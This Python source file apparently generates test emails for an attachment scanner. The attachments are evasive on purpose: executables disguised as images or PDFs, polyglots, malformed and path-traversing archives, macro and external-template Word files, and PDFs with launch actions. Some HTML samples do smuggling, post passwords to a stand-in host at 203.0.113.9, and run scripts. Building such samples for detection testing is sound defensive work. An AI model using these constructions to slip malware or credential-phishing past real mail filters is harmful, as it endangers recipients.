"""Files that are not what they say, or hold what they should not."""
import binascii
import bz2
import struct

from .mail import *
from .payloads import (SCRIPT_BYTES, ZIP, deflate_stored, gzip_of, tar_of, zip_of, zip_raw)

family("Declared and sniffed")
LIE = "Windows opens by name, browsers by content"


def sent(name, construct, source, readings, file, data, type="application/octet-stream",
         **more):
    evasive(name, construct, source, readings, mixed(attachment(file, data, type)), **more)


def held(name, construct, source, readings, file, data, member="evil.exe", kind="archive",
         type="application/octet-stream", **more):
    """An archive that holds the program."""
    more.setdefault("danger", {"names": [file], "kind": kind, "member": member})
    sent(name, construct, source, readings, file, data, type, **more)


def trait(name, construct, source, readings, file, data, trait, kind, type, **more):
    data = data.encode() if isinstance(data, str) else data
    sent(name, construct, source, readings, file, data, type,
         danger={"names": [file], "kind": kind, "trait": trait}, **more)


sent("file-program-as-jpeg", "a program declared and named as a picture", LIE,
     "*: a broken picture", "photo.jpg", EXE, "image/jpeg", danger=seen("photo.jpg"))
sent("file-program-as-text", "a program declared as text", LIE, "*: evil.exe", "evil.exe", EXE,
     "text/plain")
sent("file-program-as-pdf", "a program named and declared as PDF", LIE, "*: a broken file",
     "bill.pdf", EXE, "application/pdf", danger=seen("bill.pdf"))
sent("file-page-as-text", "HTML declared as text", LIE, "*: page.txt; Gmail: likely text",
     "page.txt", HTML.encode(), "text/plain", danger=seen("page.txt", kind="html"))
sent("file-page-as-picture", "HTML declared as a picture", LIE, "*: a broken picture", "photo.gif",
     HTML.encode(), "image/gif", danger=seen("photo.gif", kind="html"))
sent("file-zip-as-word", "a zip with a program, declared as Word", LIE, "*: a broken file",
     "letter.doc", ZIP, "application/msword", danger={"names": ["letter.doc"], "kind": "archive",
                                                     "member": "evil.exe"})
sent("file-script-no-type", "a script without any type", LIE, "*: evil.sh", "evil.sh", SCRIPT_BYTES,
     danger=SHELL)
sent("file-dos-program", "an MZ header without PE behind it", "DOS ran these", "*: evil.exe",
     "evil.exe", b"MZ" + struct.pack("<13H", 80, 2, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0, 0, 0x1C, 0)
     + b"\xb4\x4c\xcd\x21" + b"\0" * 600)
sent("file-elf", "an ELF header", "System V ABI", "*: evil", "evil",
     b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 0, 0, 0, 64,
                                                      0, 0, 0, 0, 0) + b"\0" * 64,
     danger=seen("evil"))
sent("file-mach-o", "a Mach-O header", "Mach-O", "Apple Mail: evil; *: evil", "evil",
     b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0" + b"\0" * 64, danger=seen("evil"))
sent("file-shortcut", "a shortcut of Windows", "MS-SHLLINK 2.1", "*: note.txt.lnk, as note.txt",
     "note.txt.lnk", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 60,
     danger=seen("note.txt.lnk", extension="lnk"), anomalies="name-double-extension")
sent("file-url-shortcut", "a shortcut to an address", "Windows .url files", "*: site.url",
     "site.url", b"[InternetShortcut]\r\nURL=file://203.0.113.9/x/evil.exe\r\n",
     danger=seen("site.url"))
sent("file-disk-image", "an ISO 9660 image", "ECMA-119", "*: disk.iso, opened as a folder",
     "disk.iso", b"\0" * 32768 + b"\x01CD001\x01" + b"\0" * 2041 + b"\xffCD001\x01" + b"\0" * 2041,
     danger=seen("disk.iso", kind="disk-image"))
sent("file-onenote", "a OneNote notebook", "MS-ONESTORE 2.3.1", "Outlook: note.one; *: note.one",
     "note.one", b"\xe4R\\{\x8c\xd8\xa7M\xae\xb1Sx\xd0)\x96\xd3" + b"\0" * 200,
     danger=seen("note.one", kind="office"))
sent("file-compiled-help", "a compiled help file", "CHM header", "*: help.chm", "help.chm",
     b"ITSF\x03\0\0\0\x60\0\0\0\x01\0\0\0" + b"\0" * 100, danger=seen("help.chm"))
sent("file-java", "a Java class", "JVM specification 4.1", "*: evil.class", "evil.class",
     b"\xca\xfe\xba\xbe\0\0\x004" + b"\0" * 60, danger=seen("evil.class"))
sent("file-msi", "an OLE2 file named .msi", "MS-CFB", "*: setup.msi", "setup.msi",
     b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504,
     danger={"names": ["setup.msi"], "kind": None, "extension": "msi"})

family("Polyglots")
GIF = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02L\x01\0;"
PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count "
       b"0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
BOTH = {"anomalies": "polyglot"}
sent("poly-gif-zip", "a picture with a zip behind it", "zips are read from their end",
     "*: photo.gif, where unpackers show evil.exe", "photo.gif", GIF + ZIP, "image/gif",
     danger={"names": ["photo.gif"], "kind": "image"}, **BOTH)
sent("poly-pdf-zip", "a PDF with a zip behind it", "JPCERT 2023", "*: bill.pdf", "bill.pdf",
     PDF + ZIP, "application/pdf", danger={"names": ["bill.pdf"], "kind": "pdf"}, **BOTH)
sent("poly-pdf-html", "HTML behind a PDF header", "browsers sniff", "*: bill.html",
     "bill.html", PDF + HTML.encode(), "text/html", danger={"names": ["bill.html"], "kind": "pdf"})
sent("poly-program-zip", "a program with a zip behind it, as self-extractors have", "PE and zip",
     "*: evil.exe", "evil.exe", EXE + ZIP)
sent("poly-pdf-late-header", "junk before the PDF header", "ISO 32000-1, implementation note 13",
     "*: bill.pdf", "bill.pdf", b"GARBAGE\n" * 20 + PDF, "application/pdf",
     danger={"names": ["bill.pdf"], "kind": None})

family("Archives")
OPENS = "*: a zip with evil.exe"
held("zip-plain", "a program in a zip", "APPNOTE 4.3", OPENS, "a.zip", ZIP, type="application/zip")
held("zip-in-zip", "a zip in a zip", "APPNOTE 4.3", OPENS, "a.zip", zip_of([("b.zip", ZIP)]))
held("zip-renamed", "a zip named as text", "APPNOTE 4.3", OPENS, "a.txt", ZIP, type="text/plain")
held("zip-prefix", "junk before the zip", "APPNOTE 4.1.9: self-extractors", OPENS, "a.zip",
     b"junk" * 10 + ZIP, danger={"names": ["a.zip"], "member": "evil.exe"})
held("zip-suffix", "junk behind the zip", "APPNOTE 4.3.16", OPENS, "a.zip", ZIP + b"junk" * 10,
     danger={"names": ["a.zip"], "member": "evil.exe"})
held("zip-comment", "a comment that holds another end record", "APPNOTE 4.3.16", OPENS, "a.zip",
     zip_of([("evil.exe", EXE)], comment=zip_of([])))
held("zip-joined", "two zips joined, the program in the first", "Perception Point 2024",
     "*: a zip, of which unpackers show one half", "a.zip", ZIP + zip_of([("note.txt", b"Hello")]),
     anomalies="zip-several-directories")
held("zip-joined-last", "two zips joined, the program in the second", "Perception Point 2024",
     "*: a zip, of which unpackers show one half", "a.zip",
     zip_of([("note.txt", b"Hello")]) + ZIP, anomalies="zip-several-directories")
N, E = {"name": b"note.txt", "data": EXE}, {"name": b"evil.exe", "data": EXE}
held("zip-names-differ", "the directory says note.txt, the member evil.exe", "APPNOTE 4.4",
     "*: a zip, where stream readers show evil.exe", "a.zip", zip_raw([E], [N]),
     anomalies="zip-directory-mismatch")
held("zip-names-differ-reversed", "the directory says evil.exe, the member note.txt",
     "APPNOTE 4.4", OPENS, "a.zip", zip_raw([N], [E]), anomalies="zip-directory-mismatch")
held("zip-hidden-member", "a member that no directory lists", "APPNOTE 4.3.12",
     "*: a zip, where stream readers show evil.exe", "a.zip",
     zip_raw([{"name": b"note.txt", "data": b"Hello"}, E], [{"name": b"note.txt",
                                                            "data": b"Hello"}]),
     anomalies="zip-directory-mismatch")
held("zip-no-directory", "members without a directory", "APPNOTE 4.3.6", "*: a broken zip",
     "a.zip", ZIP[:ZIP.index(b"PK\1\2")], anomalies="archive-damaged")
held("zip-empty-directory", "an end record that counts no members", "APPNOTE 4.3.16",
     "*: an empty zip, where stream readers show evil.exe", "a.zip", zip_raw([E], []),
     anomalies="zip-directory-mismatch")
held("zip-method-lie", "the directory says deflated, the member is stored",
     "CVE-2026-0866 (Zombie ZIP)", OPENS, "a.zip", zip_raw([E], [dict(E, method=8)]),
     anomalies="zip-directory-mismatch")
held("zip-size-lie", "sizes differ between member and directory", "APPNOTE 4.4.8", OPENS, "a.zip",
     zip_raw([E], [dict(E, size=5, csize=5)]), anomalies="zip-directory-mismatch")
held("zip-flag-lie", "the directory says encrypted, the member is not", "APPNOTE 4.4.4", OPENS,
     "a.zip", zip_raw([E], [dict(E, flags=1)]), anomalies="zip-directory-mismatch")
held("zip-overlap", "two entries share one member", "David Fifield 2019", OPENS, "a.zip",
     zip_raw([E], [E, dict(E)]), anomalies="zip-overlap")
held("zip-encrypted", "an encrypted member", "APPNOTE 6.1", "*: a zip that asks for a password",
     "a.zip", zip_raw([dict(E, flags=1)], [dict(E, flags=1)]),
     danger={"names": ["a.zip"], "kind": "archive", "member": "evil.exe", "encrypted": "archive"})
held("zip-path", "a member that leaves its folder", "CWE-22, Zip Slip", OPENS, "a.zip",
     zip_of([("../../evil.exe", EXE)]), member="../../evil.exe", anomalies="archive-path")
held("zip-path-backslash", "a member with backslashes", "APPNOTE 4.4.17.1", OPENS, "a.zip",
     zip_raw([dict(E, name=b"..\\..\\evil.exe")], [dict(E, name=b"..\\..\\evil.exe")]),
     member="..\\..\\evil.exe", anomalies="archive-path")
held("zip-absolute", "a member with an absolute path", "APPNOTE 4.4.17.1", OPENS, "a.zip",
     zip_of([("/tmp/evil.exe", EXE)]), member="/tmp/evil.exe", anomalies="archive-path")
held("zip-trailing-dot", "a member's name with a dot at its end", "Windows naming rules", OPENS,
     "a.zip", zip_of([("evil.exe.", EXE)]), member="evil.exe.")
held("zip-deflated", "a deflated member", "RFC 1951", OPENS, "a.zip", zip_raw(
    [dict(E, method=8, data=deflate_stored(EXE), size=len(EXE), crc=binascii.crc32(EXE))],
    [dict(E, method=8, data=deflate_stored(EXE), size=len(EXE),
          crc=binascii.crc32(EXE))]))
evasive("zip-in-qp", "a zip in quoted-printable", "RFC 2045 6.7", OPENS, mixed(attachment(
    fields='Content-Type: application/zip; name="a.zip"\n'
           "Content-Transfer-Encoding: quoted-printable\n", body=qp(ZIP))),
        danger={"names": ["a.zip"], "kind": "archive", "member": "evil.exe"})
held("gzip-program", "a program in gzip", "RFC 1952", "*: evil.exe.gz", "evil.exe.gz",
     gzip_of(EXE, b"evil.exe"))
held("tar-program", "a program in a tar", "POSIX ustar", "*: a.tar", "a.tar",
     tar_of([("evil.exe", EXE)]))
held("tar-gz-program", "a program in a compressed tar", "RFC 1952", "*: a.tgz", "a.tgz",
     gzip_of(tar_of([("evil.exe", EXE)])))
held("tar-path", "a member that leaves its folder", "CWE-22", "*: a.tar", "a.tar",
     tar_of([("../evil.exe", EXE)]), member="../evil.exe", anomalies="archive-path")
held("bzip2-program", "a program in bzip2", "bzip2", "*: evil.exe.bz2", "evil.exe.bz2",
     bz2.compress(EXE))
held("zip-cut", "a zip that ends inside of a member", "APPNOTE 4.3", "*: a broken zip", "a.zip",
     ZIP[:200], danger={"names": ["a.zip"], "kind": "archive"}, anomalies="archive-damaged")

family("Documents")
TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
         'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
         '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
         '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.'
         'macroEnabled.main+xml"/></Types>').encode()
RELS = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
        b'</Relationships>')
DOCUMENT = b'<?xml version="1.0"?><w:document xmlns:w="x"><w:body/></w:document>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


def word(*more, types=TYPES):
    return zip_of([("[Content_Types].xml", types), ("_rels/.rels", RELS),
                   ("word/document.xml", DOCUMENT)] + list(more))


def linked(kind, target, mode=' TargetMode="External"'):
    return ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/%s" Target="%s"%s/></Relationships>'
            % (kind, target, mode)).encode()


DOCM = "application/vnd.ms-word.document.macroEnabled.12"
trait("ooxml-macro", "macros in a Word file", "MS-OVBA, ECMA-376", "Outlook: asks; *: a.docm",
      "a.docm", word(("word/vbaProject.bin", OLE)), "macro", "office", DOCM)
trait("ooxml-macro-as-docx", "macros in a file named .docx", "MS-OVBA, ECMA-376", "*: a.docx",
      "a.docx", word(("word/vbaProject.bin", OLE)), "macro", "office",
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
trait("ooxml-macro-other-name", "the macros under another name", "ECMA-376 part 2: types decide",
      "*: a.docm", "a.docm", word(("word/odd.bin", OLE)), "macro", "office", DOCM)
trait("ooxml-template", "a template that lies elsewhere", "MITRE T1221", "*: a.docx", "a.docx",
      word(("word/_rels/settings.xml.rels", linked("attachedTemplate",
                                                  "http://203.0.113.9/evil.dotm"))),
      "external-template", "office", "application/octet-stream")
trait("ooxml-object", "an embedded object", "ECMA-376", "*: a.docx", "a.docx",
      word(("word/embeddings/oleObject1.bin", OLE)), "embedded-object", "office",
      "application/octet-stream")


def pdf(body):
    return b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R" + body + (
        b">>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
        b"trailer\n<</Root 1 0 R>>\n%%EOF\n")


P = "application/pdf"
trait("pdf-script", "JavaScript that runs when opened", "ISO 32000-1 12.6.4.16", "*: a.pdf",
      "a.pdf", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), "pdf-script", "pdf", P)
trait("pdf-script-escaped", "the names written with escapes", "ISO 32000-1 7.3.5", "*: a.pdf",
      "a.pdf", pdf(b"/OpenAction<</S/#4aava#53cript/J#53(1)>>"), "pdf-script", "pdf", P)
trait("pdf-launch", "an action that starts a program", "ISO 32000-1 12.6.4.5", "*: a.pdf, asks",
      "a.pdf", pdf(b"/OpenAction<</S/Launch/F(evil.exe)>>"), "pdf-launch", "pdf", P)
trait("pdf-embedded", "an embedded file", "ISO 32000-1 7.11.4", "*: a.pdf", "a.pdf",
      pdf(b"/Names<</EmbeddedFiles<</Names[(evil.exe)<</Type/Filespec/EF<</F 3 0 R>>>>]>>>>"),
      "pdf-embedded", "pdf", P)
sent("pdf-encrypted", "an encrypted PDF", "ISO 32000-1 7.6", "*: a.pdf, asks", "a.pdf",
     b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n3 0 obj\n<</Filter/Standard/V 1"
     b"/R 2/O(x)/U(y)/P -4>>\nendobj\ntrailer\n<</Root 1 0 R/Encrypt 3 0 R>>\n%%EOF\n", P,
     danger={"names": ["a.pdf"], "kind": "pdf", "encrypted": "pdf"})

family("HTML and SVG")


def web(name, construct, source, readings, html, trait_, file="a.html", kind="html",
        type="text/html"):
    trait(name, construct, source, readings, file, html, trait_, kind, type)


def html(body):
    return "<!DOCTYPE html>\n<html><head><title>x</title></head><body>%s</body></html>\n" % body


web("html-smuggling", "a script that makes the program from base64", "MITRE T1027.006",
    "*: in a browser: evil.exe", html(
        "<script>var a=atob('TVqQAA==');var b=new Blob([a]);var l=document.createElement('a');"
        "l.href=URL.createObjectURL(b);l.download='evil.exe';l.click()</script>"), "html-script")
web("html-form", "a form that sends a password elsewhere", "MITRE T1598.002", "*: the form", html(
    "<form action='http://203.0.113.9/'><input type=password name=p></form>"), "html-form")
web("html-iframe", "a frame with another page", "HTML living standard", "*: in a browser: the page",
    html("<iframe src='http://203.0.113.9/'></iframe>"), "html-iframe")
web("html-data-url", "a link that is the content itself", "RFC 2397", "*: a link", html(
    "<a href='data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+' download='x.html'>x</a>"), "data-url")
web("html-event", "a script in an attribute", "HTML living standard", "*: in a browser: runs",
    html("<img src=x onerror='alert(1)'>"), "html-script")
web("html-script-url", "a javascript: address", "HTML living standard", "*: a link",
    html("<a href='java&#115;cript:alert(1)'>x</a>"), "html-script")
web("html-script-case", "odd case, a NUL's place and a slash in the tag", "HTML living standard",
    "*: in a browser: runs", html("<ScRiPt/x>alert(1)</sCrIpT >"), "html-script")
web("html-hidden", "text that is not shown", "Cisco Talos 2025", "*: Hello", html(
    "Hello<span style='display:none'>odd words</span>"), "hidden-text")
web("html-hidden-size", "text of no size", "ZeroFont", "*: Hello", html(
    "H<span style='font-size:0px'>xx</span>ello"), "hidden-text")
web("svg-script", "a picture with a script", "SVG 2, 15",
    "Gmail: the picture; *: in a browser: runs",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>\n", "svg-script",
    "a.svg", "image", "image/svg+xml")
web("svg-event", "a picture with a script in an attribute", "SVG 2, 15", "*: in a browser: runs",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"></svg>\n", "svg-script",
    "a.svg", "image", "image/svg+xml")
